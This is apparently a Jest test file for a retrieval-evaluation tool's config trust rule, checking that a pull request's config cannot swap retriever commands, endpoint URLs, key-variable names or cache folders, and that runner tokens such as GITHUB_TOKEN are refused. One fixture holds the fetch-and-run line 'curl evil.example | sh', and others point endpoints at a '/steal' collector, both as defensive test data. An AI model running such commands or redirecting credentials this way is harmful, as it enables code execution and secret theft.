/**
 * The trust rule on configs (src/config/trust.ts) and the config checks that back it: under a
 * privileged event the head's config may change only inert keys; api_key_env never names a
 * runner variable; cache_dir stays inside the repository.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../src/cli/commands';
import { parseConfig } from '../../src/config/parse';
import { applyTrust, TRUSTED_KEY_PATHS } from '../../src/config/trust';
import type { Config } from '../../src/config/types';
import { InputError } from '../../src/errors';
import { recordingIo } from '../support/recording-io';

const BASE = `retriever:
  type: hybrid
  dense: { base_url: "https://embeddings.example.com/v1", model: m1, api_key_env: EMB_KEY, cache_dir: .emb }
gate:
  max_drop: { "recall@5": 0.05 }
`;

function parseError(text: string): InputError {
  try {
    parseConfig(text, 'cfg.yml');
  } catch (e) {
    expect(e).toBeInstanceOf(InputError);
    return e as InputError;
  }
  throw new Error('expected a config error');
}

describe('applyTrust', () => {
  test('a head that switches to a command retriever keeps the base retriever; the keys are named, not shown', () => {
    const head = parseConfig(`${BASE}k: [1, 5]\nchunking: { max_chars: 1200 }\n`.replace('type: hybrid', 'type: command\n  run: "curl evil.example | sh"'), 'h.yml');
    const base = parseConfig(BASE, 'b.yml');
    const t = applyTrust(head, base);
    expect(t.config).toEqual(base);
    expect(t.refused).toEqual(['retriever.run', 'retriever.type']);
    expect(JSON.stringify(t)).not.toContain('evil.example');
    // What the head changes in what is measured is a proposal, never applied (it used to be taken from the head).
    expect(t.proposals).toEqual([
      { key: 'chunking.max_chars', base: '2400', head: '1200', effect: 'how documents are cut into chunks' },
      { key: 'k', base: '[1,3,5,10]', head: '[1,5]', effect: 'the cut-offs reported and gated' },
    ]);
  });

  test('URLs, key names and cache folders come from the base; a section the base lacks is dropped', () => {
    const head = parseConfig(
      BASE.replace('https://embeddings.example.com/v1', 'http://127.0.0.1:9/steal').replace('EMB_KEY', 'OTHER_KEY').replace('.emb', 'elsewhere'),
      'h.yml',
    );
    head.retriever.rerank = { url: 'http://127.0.0.1:9/rerank', api_key_env: 'EMB_KEY', top_n: 5, timeout_ms: 1, max_retries: 0 };
    head.retriever.dense!.model = 'm2';
    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
    expect(t.config.retriever.dense).toMatchObject({ base_url: 'https://embeddings.example.com/v1', api_key_env: 'EMB_KEY', cache_dir: '.emb', model: 'm1' });
    expect(t.config.retriever.rerank).toBeUndefined();
    expect(t.refused).toEqual([
      'retriever.dense',
      'retriever.dense.api_key_env',
      'retriever.dense.base_url',
      'retriever.dense.cache_dir',
      'retriever.rerank',
      'retriever.rerank.api_key_env',
      'retriever.rerank.url',
    ]);
    expect(t.proposals).toEqual([]);
  });

  test('a dense section only the base has is taken whole (type and URL stay together)', () => {
    const t = applyTrust(parseConfig('k: [1, 5]\n', 'h.yml'), parseConfig(BASE, 'b.yml'));
    expect(t.config.retriever.type).toBe('hybrid');
    expect(t.config.retriever.dense?.base_url).toBe('https://embeddings.example.com/v1');
  });

  test('trusted names are matched in any section, inside lists of mappings too, and a whole new branch is walked', () => {
    // A section another part of the tool may add later, unknown to the list of paths.
    const head = { ...parseConfig('', 'h.yml'), notify: { base_url: 'http://127.0.0.1:9/v1', model: 'x', headers: { 'x-key': 'k' }, sinks: [{ url: 'http://127.0.0.1:9/a', name: 's' }] } } as unknown as Config;
    const base = { ...parseConfig('', 'b.yml'), notify: { base_url: 'https://chat.example.com/v1', model: 'y' } } as unknown as Config;
    const t = applyTrust(head, base);
    expect((t.config as unknown as { notify: unknown }).notify).toEqual({ base_url: 'https://chat.example.com/v1', model: 'y' });
    // `x-key` is a secret-looking name of its own (any `…key`), so it is named under `headers` too.
    expect(t.refused).toEqual(['notify.base_url', 'notify.headers', 'notify.headers.x-key', 'notify.sinks[0].url']);
    expect(t.proposals.map((p) => p.key)).toEqual(['notify.model', 'notify.sinks[0].name']);
    expect(JSON.stringify(t.proposals)).not.toContain('127.0.0.1');
  });

  test("the base's gate is enforced; the head's is a proposal", () => {
    const head = parseConfig(BASE.replace('0.05 }', '0.5 }\n  max_newly_failing: 3'), 'h.yml');
    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
    expect(t.config.gate.max_drop).toEqual({ 'recall@5': 0.05 });
    expect(t.config.gate.max_newly_failing).toBe(0);
    expect(t.gateProposal).toEqual(['gate.max_drop.recall@5: 0.05 → 0.5', 'gate.max_newly_failing: 0 → 3']);
    expect(t.refused).toEqual([]);
    // A head without the base's retriever is a change of trusted keys too: the base's stays.
    const bare = applyTrust(parseConfig('', 'h.yml'), parseConfig(BASE, 'b.yml'));
    expect(bare.config.retriever.type).toBe('hybrid');
    expect(bare.refused).toContain('retriever.type');
  });

  test('a long proposed value is shortened; an acknowledgement the head adds is listed item by item', () => {
    const head = parseConfig(`${BASE}exclude: [${Array.from({ length: 40 }, (_, i) => `"archive-${i}/**"`).join(', ')}]\n`.replace('0.05 }', '0.05 }\n  acknowledged: [{id: R03, reason: "fine"}]'), 'h.yml');
    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
    const exclude = t.proposals.find((p) => p.key === 'exclude')!;
    expect(exclude.head.length).toBe(120);
    expect(exclude.head.endsWith('…')).toBe(true);
    expect(exclude.effect).toBe('which files are measured');
    expect(t.proposals.filter((p) => p.key.startsWith('gate.acknowledged'))).toEqual([
      { key: 'gate.acknowledged[0].id', base: '(unset)', head: '"R03"', effect: 'what fails the check' },
      { key: 'gate.acknowledged[0].reason', base: '(unset)', head: '"fine"', effect: 'what fails the check' },
    ]);
  });

  test('a head with thousands of changed keys: 500 proposals and 500 refused keys kept, the rest counted', () => {
    const many = (prefix: string, n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`${prefix}${String(i).padStart(4, '0')}`, i]));
    const head = parseConfig('', 'h.yml');
    head.retriever.options = { ...many('opt', 1200), backends: Array.from({ length: 700 }, (_, i) => ({ url: `http://h/${i}` })) };
    const t = applyTrust(head, parseConfig('', 'b.yml'));
    expect(t.proposals).toHaveLength(500);
    expect(t.omitted).toBe(700);
    expect(t.refused).toHaveLength(501);
    expect(t.refused[500]).toBe('… and 200 more');
    expect(t.config.retriever.options).toBeUndefined();
  });

  test('the same config on both sides changes nothing', () => {
    const t = applyTrust(parseConfig(BASE, 'h.yml'), parseConfig(BASE, 'b.yml'));
    expect(t).toEqual({ config: parseConfig(BASE, 'x'), refused: [], proposals: [], omitted: 0, gateProposal: [] });
  });
});

describe('config checks behind the trust model', () => {
  test.each(['GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'INPUT_GITHUB-TOKEN'.replace('-', '_'), 'RUNNER_TOKEN'])(
    'api_key_env: %s is refused with file, line and field',
    (name) => {
      const e = parseError(`retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    api_key_env: ${name}\n`);
      expect(e.format()).toMatch(new RegExp(`^cfg\\.yml:6:\\d+: retriever\\.dense\\.api_key_env: .*${name}.*runner sets for itself`));
      const r = parseError(`retriever:\n  rerank:\n    url: https://x.example/rerank\n    api_key_env: ${name}\n`);
      expect(r.format()).toMatch(/^cfg\.yml:4:\d+: retriever\.rerank\.api_key_env: /);
    },
  );

  test('an ordinary key name is accepted', () => {
    expect(parseConfig(`retriever:\n  rerank:\n    url: https://x.example/rerank\n    api_key_env: COHERE_API_KEY\n`, 'c').retriever.rerank?.api_key_env).toBe('COHERE_API_KEY');
  });

  test.each(['/tmp/cache', '../outside', 'a/../../b', '~/cache', 'C:/cache'])('cache_dir %s is refused', (dir) => {
    const e = parseError(`retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    cache_dir: "${dir}"\n`);
    expect(e.format()).toMatch(/^cfg\.yml:6:\d+: retriever\.dense\.cache_dir: .*inside the repository/);
  });

  test('cache_dir inside the repository is accepted, pass_env and on_missing_key read', () => {
    const c = parseConfig(`retriever:\n  type: command\n  run: ./r\n  pass_env: [MY_INDEX, HF_TOKEN]\n  on_missing_key: skip\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    cache_dir: a/../.cache/emb\n`, 'c');
    expect(c.retriever.dense?.cache_dir).toBe('a/../.cache/emb');
    expect(c.retriever.pass_env).toEqual(['MY_INDEX', 'HF_TOKEN']);
    expect(c.retriever.on_missing_key).toBe('skip');
    expect(parseError('retriever:\n  pass_env: ["not a name"]\n').format()).toMatch(/retriever\.pass_env\[0\]/);
    expect(parseError('retriever:\n  on_missing_key: maybe\n').format()).toMatch(/retriever\.on_missing_key.*'bm25', 'skip', 'fail'/);
  });

  test('the CLI exits 2 with the file, line and field for api_key_env: GITHUB_TOKEN', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rg-trust-cli-'));
    try {
      writeFileSync(join(dir, 'cfg.yml'), 'retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    api_key_env: GITHUB_TOKEN\n');
      writeFileSync(join(dir, 'golden.yml'), 'questions:\n  - id: Q1\n    question: q\n    relevant: [a.md]\n');
      writeFileSync(join(dir, 'a.md'), '# A\n\ntext\n');
      const io = recordingIo(dir);
      const code = await main(['eval', '--dir', dir, '--config', 'cfg.yml', '--golden', 'golden.yml'], io);
      expect(code).toBe(2);
      expect(io.err).toMatch(/cfg\.yml:6:\d+: retriever\.dense\.api_key_env: .*GITHUB_TOKEN/);
      expect(io.err).not.toMatch(/\n\s+at /);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('what the base key pays for', () => {
  test('a PR cannot change the embeddings model, prefixes or concurrency, nor the rerank model or top_n', () => {
    const base = parseConfig(`${BASE}`.replace('type: hybrid', 'type: hybrid\n  rerank: { url: "https://rerank.example.com/v1/rerank", model: r1, top_n: 20 }'), 'b.yml');
    const head = parseConfig(
      BASE.replace('model: m1', 'model: m-large, document_prefix: "x ", concurrency: 64').replace(
        'type: hybrid',
        'type: hybrid\n  rerank: { url: "https://rerank.example.com/v1/rerank", model: r-huge, top_n: 5000 }',
      ),
      'h.yml',
    );
    const t = applyTrust(head, base);
    expect(t.config.retriever.dense).toEqual(base.retriever.dense);
    expect(t.config.retriever.rerank).toEqual(base.retriever.rerank);
    expect(t.refused).toEqual(['retriever.dense', 'retriever.rerank']);
    expect(TRUSTED_KEY_PATHS).toEqual(expect.arrayContaining(['retriever.dense', 'retriever.rerank']));
  });
});
